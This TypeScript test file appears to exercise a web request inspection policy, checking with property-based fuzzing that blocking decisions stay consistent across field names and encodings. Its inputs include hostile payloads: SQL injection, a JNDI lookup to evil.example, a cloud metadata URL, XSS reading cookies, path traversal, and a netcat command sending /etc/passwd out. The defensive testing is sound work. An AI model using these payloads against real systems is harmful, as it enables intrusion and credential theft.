import { deflateRawSync } from 'node:zlib';
import fc from 'fast-check';
import { expect, test } from 'vitest';
import { choices, encodeLatin1, post, request } from '../testing/requests.ts';
import { compilePolicy, explain, inspect } from './index.ts';

const policy = compilePolicy({ securityLevel: 'high', categories: choices('high') });
const attack = "1' UNION SELECT password FROM users--";
const packed = deflateRawSync(`<samlp:AuthnRequest id="${attack}"/>`).toString('base64');
const graphql = String.raw`query { item(name: "1' or \u0027a\u0027=\u0027a") { id } }`;
const form = 'application/x-www-form-urlencoded';
/** So many that repeated texts are looked for. */
const fillers = Array.from(
  { length: 14 },
  (_unused, index) => [`f${index}`, 'select the best union'] as const,
);

test('a value that stood under other names before is read as a SAML message under the name of one', () => {
  const encoded = encodeURIComponent(packed);
  const before = Array.from({ length: 20 }, (_unused, index) => `field${index}=${encoded}`);
  expect(inspect(policy, post(form, before.join('&'))).decision).toBe('pass');
  expect(inspect(policy, post(form, [...before, `SAMLRequest=${encoded}`].join('&'))).decision).toBe('block');
});

const piece = fc.constantFrom(
  packed,
  attack,
  graphql,
  `query { item(text: ${JSON.stringify(graphql)}) { id } }`,
  JSON.stringify({ SAMLRequest: packed }),
  JSON.stringify([graphql, { where: { $ne: 'a text of some length' } }]),
  JSON.stringify({ inner: JSON.stringify({ SAMLResponse: packed }) }),
  Buffer.from(JSON.stringify({ SAMLRequest: packed })).toString('base64'),
  `\${jndi:ldap://evil.example/a}`,
  'http://169.254.169.254/latest/meta-data/',
  'import os; os.system("id")',
  '<script>alert(document.cookie)</script>',
  '../../../../../../etc/passwd%00',
  'ls -la; cat /etc/passwd | nc 10.0.0.1 4444',
);
const name = fc.constantFrom(
  ...[
    '',
    'q',
    'SAMLRequest',
    'source',
    'text',
    'where',
    'filters',
    'status[$ne]',
    'stacktrace',
    'url',
    'content',
  ],
);

test('what the request held before under another name or in another part is judged as if it had not', () => {
  const pairs = fc.array(fc.tuple(name, fc.nat({ max: 2 })), { minLength: 3, maxLength: 8 });
  const pieces = fc.tuple(piece, piece, piece);
  fc.assert(
    fc.property(pieces, pairs, (texts, list) => {
      const all = [...fillers, ...list.map(([key, index]) => [key, texts[index] ?? ''] as const)];
      const joined = all.map(([key, text]) => `${encodeLatin1(key)}=${encodeLatin1(text)}`);
      const objects = all.map(([key, text]) => ({ [key]: text }));
      for (const sent of [
        request({ target: `/find?${joined.join('&')}`, headers: [['cookie', joined.join('; ')]] }),
        post(form, joined.join('&'), `/find?${joined.slice(-3).join('&')}`),
        post('application/json', JSON.stringify(objects)),
        post('application/json', [...objects, ...texts].map((one) => JSON.stringify(one)).join('\n')),
        post('application/json', JSON.stringify(objects.map((one) => JSON.stringify(one)))),
      ])
        expect(inspect(policy, sent)).toEqual(explain(policy, sent).verdict);
    }),
    { numRuns: 100 },
  );
}, 60_000);
